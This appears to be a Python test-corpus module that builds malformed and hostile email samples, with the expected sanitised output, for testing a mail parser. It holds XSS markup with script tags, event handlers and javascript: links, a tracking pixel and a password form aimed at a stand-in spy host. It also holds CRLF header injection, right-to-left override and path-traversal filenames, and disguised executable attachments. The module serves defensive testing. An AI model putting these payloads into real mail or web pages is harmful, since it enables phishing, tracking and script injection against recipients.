"""Mail that is wrong, hostile or merely rare: in its headers, its parts, its files and its markup."""

from collections.abc import Iterator

from tests.inbound.corpus.writing import (
    CUSTOMER,
    SUPPORT,
    Piece,
    Sample,
    encoded,
    headers,
    mail,
    several,
    text,
)

YES = text("Yes, two.\n")
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa75\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"
HOSTILE = (
    '<p onclick="alert(1)">Two scanners, please.</p><script>alert(2)</script><style>p{background:url(//spy.example)}</style>'
    '<svg onload="alert(3)"><text>drawn</text></svg><img src="https://spy.example/open.gif?id=7" width=1 height=1 alt="spied">'
    '<div hx-get="/tickets/1/closure" hx-trigger="load" data-hx-post="/x">Room 12</div><iframe src="//spy.example">framed</iframe>'
    '<a href="javascript:alert(4)">press</a> <a href="https://docs.example/a">manual</a><object data="x"></object>'
    '<meta http-equiv="refresh" content="0;url=//spy.example"><link rel="stylesheet" href="//spy.example/x.css">'
    '<form action="//spy.example"><input name="password"></form><math><mtext></mtext></math><base href="//spy.example/">'
)


def header_samples() -> Iterator[Sample]:
    yield _headed(
        "line break in the subject",
        "Subject: =?utf-8?q?Hello=0D=0ABcc=3A_all=40conf=2Eexample?=",
        subject="Hello Bcc: all@conf.example",
    )
    yield _headed("NUL and bell in the subject", "Subject: =?utf-8?q?Hel=00lo=07?=", subject="Hel lo")
    yield _headed("subject turned around", "Subject: =?utf-8?b?4oCuZ25wLmV4ZQ==?=", subject="gnp.exe")
    yield _headed(
        "subject in Latin-1 bytes",
        b"Subject: Gr\xfc\xdfe".decode("ascii", "surrogateescape"),
        subject="Grüße",
    )
    yield _headed("subject in UTF-8 bytes", "Subject: Grüße", subject="Grüße")
    yield _headed(
        "characters split between words",
        "Subject: =?utf-8?b?R3LDvMM=?=\r\n =?utf-8?b?n2U=?=",
        subject="Grüße",
    )
    yield _headed("words of an unknown charset", "Subject: =?x-none?q?Gr=C3=BC=C3=9Fe?=", subject="Grüße")
    yield _headed("word that is no Base64", "Subject: =?utf-8?b?!!!?= Hello", subject=None)
    yield _headed("half a word", "Subject: =?utf-8?q?Hello", subject="=?utf-8?q?Hello")
    yield _headed("words without blanks", "Subject: =?utf-8?q?Gr=C3=BC?==?utf-8?q?=C3=9Fe?=", subject="Grüße")
    yield _headed("a subject of 20,000 signs", "Subject: " + "long " * 4000, subject=None)
    yield _headed("no subject", "X-Nothing: 1", subject="")
    for name, line, senders in SENDERS:
        facts: dict[str, object] = {"senders": senders}
        yield Sample(f"sender: {name}", mail(YES, top=(line, f"To: {SUPPORT}")), "Yes, two.", facts=facts)
    for name, line, message_id in IDENTIFIERS:
        yield Sample(
            f"identifier: {name}",
            mail(YES, top=(f"From: {CUSTOMER}", line)),
            "Yes, two.",
            facts={"message_id": message_id},
        )
    for name, date in DATES:
        yield Sample(
            f"date: {name}", mail(YES, top=(f"From: {CUSTOMER}", date)), "Yes, two.", facts={"date": None}
        )
    twice = (
        "From: a@conf.example",
        "From: b@conf.example",
        "Message-ID: <1@x.example>",
        "Message-ID: <2@x.example>",
        "Subject: A",
        "Subject: B",
    )
    notes = (
        "The mail has several From",
        "The mail has several Message-Id",
        "The mail has several Subject",
        "The mail names several",
    )
    yield Sample(
        "headers twice",
        mail(YES, top=twice),
        "Yes, two.",
        notes=notes,
        facts={"senders": ("a@conf.example", "b@conf.example"), "message_id": "<1@x.example>"},
    )


SENDERS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("plain", "From: Kim@Conf.example", ("kim@conf.example",)),
    ("none", "X-None: 1", ()),
    ("empty", "From: ", ()),
    ("only a name", "From: Kim Park", ()),
    ("name with comma", 'From: "Park, Kim" <kim@conf.example>', ("kim@conf.example",)),
    ("name with comma, not quoted", "From: Park, Kim <kim@conf.example>", ("kim@conf.example",)),
    ("name that is an address", "From: boss@portal.example <kim@conf.example>", ("kim@conf.example",)),
    (
        "quoted name that is an address",
        'From: "boss@portal.example" <kim@conf.example>',
        ("kim@conf.example",),
    ),
    (
        "encoded name with brackets",
        "From: =?utf-8?q?boss_=3Cboss=40portal=2Eexample=3E?= <kim@conf.example>",
        ("kim@conf.example",),
    ),
    ("comment behind", "From: kim@conf.example (Kim <boss@portal.example>)", ("kim@conf.example",)),
    (
        "two in brackets",
        "From: <boss@portal.example> <kim@conf.example>",
        ("boss@portal.example", "kim@conf.example"),
    ),
    ("two with comma", "From: a@conf.example, b@conf.example", ("a@conf.example", "b@conf.example")),
    ("two with a blank", "From: a@conf.example b@conf.example", ("a@conf.example", "b@conf.example")),
    ("word behind", "From: a@conf.example Kim", ("a@conf.example",)),
    ("two at signs", "From: a@b@conf.example", ()),
    ("group", "From: Office: a@conf.example, b@conf.example;", ("a@conf.example", "b@conf.example")),
    ("empty group", "From: undisclosed-recipients:;", ()),
    ("bracket open", "From: Kim <kim@conf.example", ("kim@conf.example",)),
    ("parenthesis that closes nothing", "From: alice@a.example)bob@b.example", ()),
    ("parenthesis never closed", "From: alice@a.example(<bob@b.example>", ("bob@b.example",)),
    ("quote never closed", 'From: "Kim <kim@conf.example>', ("kim@conf.example",)),
    ("domain beyond ASCII", "From: kim@bücher.example", ("kim@xn--bcher-kva.example",)),
    ("local part beyond ASCII", "From: kím@conf.example", ("",)),
    ("break inside", "From: =?utf-8?q?Kim=0D=0ABcc=3A_x?= <kim@conf.example>", ("kim@conf.example",)),
    ("bracket with blanks", "From: Kim < kim@conf.example >", ("kim@conf.example",)),
    ("control sign in it", "From: <kim\x00@conf.example>", ()),
    ("no dot in the domain", "From: root@localhost", ("",)),
    ("very long", f"From: {'k' * 300}@conf.example", ()),
)
IDENTIFIERS = (
    ("usual", "Message-ID: <a.b@conf.example>", "<a.b@conf.example>"),
    ("without brackets", "Message-ID: a.b@conf.example", "<a.b@conf.example>"),
    ("broken line", "Message-ID:\r\n <a.b@conf.example>", "<a.b@conf.example>"),
    ("without at sign", "Message-ID: <0123456789>", "<0123456789>"),
    ("with remark", "Message-ID: <a.b@conf.example> (added by mx)", "<a.b@conf.example>"),
    ("other case", "Message-Id: <a.b@conf.example>", "<a.b@conf.example>"),
    ("empty", "Message-ID: <>", ""),
    ("too long", f"Message-ID: <{'a' * 4000}@conf.example>", ""),
    ("blanks inside", "Message-ID: <a b@conf.example>", ""),
)
DATES = (
    ("missing", "X-None: 1"),
    ("words", "Date: yesterday"),
    ("year 99999", "Date: Mon, 23 Nov 99999 10:00:00 +0000"),
    ("year 1900", "Date: Mon, 23 Nov 1900 10:00:00 +0000"),
    ("hour 77", "Date: Mon, 23 Nov 2026 77:00:00 +0000"),
    ("zone of 99 hours", "Date: Mon, 23 Nov 2026 10:00:00 +9999"),
    ("long digits", f"Date: Mon, 23 Nov {'9' * 5000} 10:00:00 +0000"),
)


def markup_samples() -> Iterator[Sample]:
    yield Sample(
        "hostile markup",
        mail(text(HOSTILE, kind="html")),
        "Two scanners, please.\n\nRoom 12\npress manual (https://docs.example/a)",
    )
    table = "<table><tr><td>Room</td><td>12</td></tr><tr><td>Hall</td><td>4</td></tr></table><ul><li>one<li>two</ul>"
    yield Sample("table and list", mail(text(table, kind="html")), "Room  12\nHall  4\n\n- one\n- two")
    yield Sample(
        "entities",
        mail(text("<p>a &lt;b&gt; &amp; &#x43;&nbsp;d &bogus;</p>", kind="html")),
        "a <b> & C\u00a0d &bogus;",
    )
    yield Sample(
        "pre",
        mail(text("<p>Log:</p><pre>one\n  two\n\nthree</pre>", kind="html")),
        "Log:\n\none\n  two\n\nthree",
    )
    lines = "".join(
        f'<p class="MsoNormal">{line}<o:p></o:p></p>' for line in ("Hello,", "two please.", "&nbsp;", "Kim")
    )
    yield Sample(
        "lines of Outlook",
        mail(text(f"<div class=WordSection1>{lines}</div>", kind="html")),
        "Hello,\ntwo please.\n\nKim",
    )
    yield Sample(
        "never closed", mail(text("<div><b>Two <i>please<table><tr><td>now", kind="html")), "Two please\nnow"
    )
    yield Sample("no markup at all", mail(text("Just words", kind="html")), "Just words")
    yield Sample(
        "picture in the text",
        mail(text('<p>See <img src="cid:p1" alt="the desk"></p>', kind="html")),
        "See [the desk]",
    )
    stub = several(
        "alternative",
        text("This mail needs a program that shows HTML.\n"),
        text("<p>Two, please.</p>", kind="html"),
    )
    yield Sample("plain part that stands for HTML", mail(stub), "Two, please.")
    blank = several("alternative", text("\n \n"), text("<p>Two, please.</p>", kind="html"))
    yield Sample("blank plain part", mail(blank), "Two, please.")
    other = several("alternative", text("<p>Two, please.</p>", kind="html"), text("Two, please - plain."))
    yield Sample("HTML first", mail(other), "Two, please - plain.")


def attached(
    name: str, content: bytes, kind: str = "application/octet-stream", how: str = "attachment"
) -> Piece:
    return Piece(kind, content, "base64", (f"Content-Disposition: {how}; filename={name}",))


def file_samples() -> Iterator[Sample]:
    for name, piece, kept, note in FILES:
        facts: dict[str, object] = {"files": (kept,) if kept else ()}
        notes = (note,) if note else ()
        yield Sample(
            f"file: {name}", mail(several("mixed", YES, piece)), "Yes, two.", notes=notes, facts=facts
        )
    six = [attached(f"{n}.txt", b"words") for n in range(6)]
    yield Sample(
        "six files",
        mail(several("mixed", YES, *six)),
        "Yes, two.",
        notes=("5.txt: a message carries at most 5",),
        facts={"files": tuple(f"{n}.txt" for n in range(5))},
    )
    inline = Piece(
        "image/png",
        PNG,
        "base64",
        ("Content-ID: <desk@conf>", "Content-Disposition: inline; filename=desk.png"),
    )
    related = several(
        "related",
        text('<p>See <img src="cid:desk@conf" alt="desk"></p>', kind="html"),
        inline,
        boundary="inner",
    )
    yield Sample(
        "picture inside",
        mail(several("mixed", related, attached("plan.pdf", PDF))),
        "See [desk]",
        facts={"files": ("plan.pdf", "desk.png")},
    )
    body = several("mixed", text("One."), attached("plan.pdf", PDF), text("Two."))
    yield Sample("text on both sides of a file", mail(body), "One.\n\nTwo.", facts={"files": ("plan.pdf",)})
    inner = Piece(
        "message/rfc822",
        mail(
            several("mixed", text("Where are they?"), attached("list.csv", b"a;b\n1;2\n"), boundary="deep"),
            top=("From: Robin <robin@conf.example>", "Subject: Scanners"),
        ),
    )
    yield Sample(
        "a mail as a file",
        mail(several("mixed", YES, inner)),
        "Yes, two.",
        "Robin Scanners Where are they",
        facts={"files": ("list.csv",)},
    )
    quoting = (
        '<div>Yes</div><div class="gmail_quote">On 1.1.2026 Robin wrote:<blockquote>Where?</blockquote></div>'
    )
    yield Sample(
        "a mail that quotes as a file",
        mail(
            several(
                "mixed",
                YES,
                Piece("message/rfc822", mail(text(quoting, kind="html"), top=("Subject: Hall",))),
            )
        ),
        "Yes, two.",
        "Hall On 1 Robin wrote Where",
    )
    signed = several("signed", YES, Piece("application/pgp-signature", b"-----BEGIN PGP SIGNATURE-----\n"))
    yield Sample("signed", mail(signed), "Yes, two.", facts={"files": ()})
    sealed = several(
        "encrypted",
        Piece("application/pgp-encrypted", b"Version: 1\n"),
        Piece("application/octet-stream", b"x"),
    )
    yield Sample("encrypted", mail(sealed), "", notes=("The mail is encrypted",), facts={"files": ()})
    yield Sample(
        "S/MIME",
        mail(attached("smime.p7m", b"0\x82", "application/pkcs7-mime")),
        "",
        notes=("The mail is encrypted",),
    )
    yield Sample("only a file", mail(attached("plan.pdf", PDF)), "", facts={"files": ("plan.pdf",)})


FILES: tuple[tuple[str, Piece, str, str], ...] = (
    ("PDF", attached("plan.pdf", PDF, "application/pdf"), "plan.pdf", ""),
    (
        "PDF called a picture",
        attached("plan.png", PDF, "image/png"),
        "",
        "plan.png: what is in the file is not",
    ),
    ("program", attached("setup.exe", b"MZ\x90"), "", "setup.exe: files that can run"),
    ("two endings", attached('"plan.pdf.exe"', PDF), "", "plan.pdf.exe: files that can run"),
    ("runs before its ending", attached('"plan.js.pdf"', PDF), "", "plan.js.pdf: files that can run"),
    ("SVG", attached("logo.svg", b"<svg onload='x'/>"), "", "logo.svg: files that can run"),
    ("web page", attached("page.html", b"<html>", "text/html"), "", "page.html: files that can run"),
    ("archive", attached("all.zip", b"PK\x03\x04"), "", "all.zip: this kind of file is not taken"),
    (
        "winmail.dat",
        attached("winmail.dat", b"\x78\x9f\x3e\x22", "application/ms-tnef"),
        "",
        "winmail.dat could not be read",
    ),
    (
        "winmail.dat by name only",
        attached("winmail.dat", b"\x78\x9f\x3e\x22"),
        "",
        "winmail.dat could not be read",
    ),
    (
        "winmail by type only",
        Piece("application/vnd.ms-tnef", b"\x78\x9f", "base64"),
        "",
        "winmail.dat could not be read",
    ),
    ("empty", attached("none.pdf", b""), "", "none.pdf: the file is empty"),
    ("no name", Piece("image/png", PNG, "base64"), "picture.png", ""),
    (
        "no name, no known type",
        Piece("application/x-thing", b"x", "base64"),
        "",
        "file: this kind of file is not taken",
    ),
    ("path", attached('"../../etc/plan.pdf"', PDF), "plan.pdf", ""),
    ("drive", attached('"C:\\\\Users\\\\kim\\\\plan.pdf"', PDF), "plan.pdf", ""),
    (
        "RFC 2231",
        Piece(
            "application/pdf",
            PDF,
            "base64",
            ("Content-Disposition: attachment; filename*=utf-8''Gr%C3%BC%C3%9Fe.pdf",),
        ),
        "Grüße.pdf",
        "",
    ),
    (
        "RFC 2231 in pieces",
        Piece(
            "application/pdf",
            PDF,
            "base64",
            (
                "Content-Disposition: attachment; filename*0*=utf-8''Gr%C3%BC; filename*1*=%C3%9Fe; filename*2=.pdf",
            ),
        ),
        "Grüße.pdf",
        "",
    ),
    (
        "RFC 2231, unknown charset",
        Piece(
            "application/pdf", PDF, "base64", ("Content-Disposition: attachment; filename*=x-none''plan.pdf",)
        ),
        "plan.pdf",
        "",
    ),
    (
        "RFC 2231, number of 1,800 digits",
        Piece(
            "application/pdf",
            PDF,
            "base64",
            (f"Content-Disposition: attachment; filename*{'9' * 1800}=plan.pdf",),
        ),
        "plan.pdf",
        "",
    ),
    ("encoded word", attached('"=?utf-8?q?Gr=C3=BC=C3=9Fe=2Epdf?="', PDF), "Grüße.pdf", ""),
    ("name in UTF-8 bytes", attached('"Grüße.pdf"', PDF), "Grüße.pdf", ""),
    ("name with break and NUL", attached('"=?utf-8?q?pl=0D=0Aan=00=2Epdf?="', PDF), "pl an.pdf", ""),
    (
        "name turned around",
        attached('"=?utf-8?q?=E2=80=AEfdp=2Eexe?="', PDF),
        "",
        "fdp.exe: files that can run",
    ),
    ("text file", attached("log.txt", b"one\ntwo\n", "text/plain"), "log.txt", ""),
    ("text file shown inline", attached("log.txt", b"one\ntwo\n", "text/plain", "inline"), "log.txt", ""),
    ("name in the type only", Piece('application/pdf; name="plan.pdf"', PDF, "base64"), "plan.pdf", ""),
    (
        "encoding with a remark",
        Piece(
            "application/pdf",
            encoded(PDF, "base64"),
            "base64 ; x=y",
            ("Content-Disposition: attachment; filename=plan.pdf",),
        ),
        "plan.pdf",
        "",
    ),
    (
        "Base64 with rubbish in it",
        Piece(
            "application/pdf",
            encoded(PDF, "base64").replace(b"\r\n", b"*\r\n!"),
            "base64 ",
            ("Content-Disposition: attachment; filename=plan.pdf",),
        ),
        "plan.pdf",
        "",
    ),
)


def structure_samples() -> Iterator[Sample]:
    top = ("MIME-Version: 1.0",)
    inside = b"--b\r\n" + YES.lines() + b"\r\n"
    for name, kind, body in (
        ("no closing boundary", 'multipart/mixed; boundary="b"', inside),
        ("boundary without quotes", "multipart/mixed; boundary=b", inside + b"--b--\r\n"),
        (
            "blanks behind the boundary",
            "multipart/mixed; boundary=b",
            inside.replace(b"--b\r\n", b"--b  \t\r\n") + b"--b--  \r\n",
        ),
        (
            "words before and behind",
            "multipart/mixed; boundary=b",
            b"Ignored.\r\n" + inside + b"--b--\r\nIgnored too.\r\n",
        ),
        ("boundary twice", "multipart/mixed; boundary=b", b"--b\r\n" + inside + b"--b--\r\n"),
        (
            "the same boundary inside",
            "multipart/mixed; boundary=b",
            b"--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + inside + b"--b--\r\n--b--\r\n",
        ),
    ):
        yield Sample(f"parts: {name}", mail(Piece(kind, body), top=top), "Yes, two.")
    yield Sample(
        "parts: another boundary than told",
        mail(Piece("multipart/mixed; boundary=c", inside), top=top),
        None,
        "Yes two",
    )
    yield Sample("parts: no boundary told", mail(Piece("multipart/mixed", inside), top=top), None, "Yes two")
    yield Sample("parts: empty boundary", mail(Piece('multipart/mixed; boundary=""', inside), top=top), None)
    yield Sample("parts: none", mail(Piece("multipart/mixed; boundary=b", b"--b--\r\n"), top=top), "")
    yield Sample(
        "parts: partial", mail(Piece("message/partial; number=1; total=2; id=x", YES.lines()), top=top), None
    )
    yield Sample("no headers", b"Just words.\r\nMore.\r\n", "Just words.\nMore.")
    yield Sample("no body", b"From: kim@conf.example\r\nSubject: Hello", "", facts={"subject": "Hello"})
    yield Sample("nothing", b"", "")
    yield Sample("only breaks", b"\r\n\r\n\r\n", "")
    yield Sample("line ends of Unix", mail(YES).replace(b"\r\n", b"\n"), "Yes, two.")
    yield Sample("line ends of old Macs", mail(YES).replace(b"\r\n", b"\r"), "Yes, two.")
    yield Sample("mailbox line above", b"From kim Mon Nov 23 10:00:00 2026\r\n" + mail(YES), "Yes, two.")
    yield Sample(
        "byte order mark above",
        b"\xef\xbb\xbf" + mail(YES),
        "Yes, two.",
        facts={"subject": "Re: Badge scanners"},
    )
    yield Sample(
        "empty lines above", b"\r\n\r\n" + mail(YES), "Yes, two.", facts={"subject": "Re: Badge scanners"}
    )
    yield Sample(
        "a line among the headers", mail(YES).replace(b"Subject:", b"rubbish\r\nSubject:"), None, "Yes two"
    )
    yield Sample("NUL in the text", mail(Piece("text/plain", b"Yes\x00, two.\x08\x1b[31m")), "Yes, two.[31m")
    yield Sample("unknown encoding", mail(Piece("text/plain", b"Yes, two.", "x-none")), "Yes, two.")
    yield Sample(
        "Base64 cut off", mail(Piece("text/plain", b"Yes, two. " * 20, "base64"))[:-30], None, "Yes two"
    )
    yield Sample("rubbish", bytes(range(256)) * 8)
    yield Sample("no type", "\r\n".join(headers()).encode() + b"\r\n\r\nYes, two.\r\n", "Yes, two.")
    yield Sample("type that is none", mail(Piece("text", b"Yes, two.")), "Yes, two.")


def _headed(name: str, line: str, subject: str | None) -> Sample:
    facts: dict[str, object] = {} if subject is None else {"subject": subject}
    return Sample(f"header: {name}", mail(YES, top=(f"From: {CUSTOMER}", line)), "Yes, two.", facts=facts)
